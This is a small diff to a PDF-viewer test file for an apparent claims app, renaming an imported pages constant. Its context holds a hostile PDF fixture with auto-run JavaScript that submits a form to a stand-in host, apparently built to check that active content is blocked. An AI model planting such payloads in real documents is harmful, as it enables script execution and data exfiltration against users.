@@ -1,5 +1,5 @@
 import { pdfOfPaper } from '@gadget-claims/api/seed/claims/papers';
-import { PAGES, pdfOf } from '@gadget-claims/api/test/files';
+import { PDF_PAGES, pdfOf } from '@gadget-claims/api/test/files';
 import { lockedPdf } from '@gadget-claims/api/test/pdf-corpus';
 import { STATUS } from '@gadget-claims/domain/claims/claims/status-ids';
 import { DOCUMENT } from '@gadget-claims/domain/claims/documents/ids';
@@ -72,7 +72,7 @@ test('a PDF is drawn page by page, zoomed and turned by keys', async ({
 /** All that a file can try, on a page with a black square. None of it would be taken from a claimant. */
 const HOSTILE = pdfOf(
   '<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AcroForm<</XFA 6 0 R>>/Names<</JavaScript<</Names[(a) 5 0 R]>>/EmbeddedFiles<</Names[(b) 7 0 R]>>>>>>',
-  PAGES,
+  PDF_PAGES,
   '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/AA<</O 5 0 R>>/Annots[8 0 R]>>',
   '<</Length 19>>stream\n0 0 100 100 re f   \nendstream',
   '<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://bad.example"\\))>>',
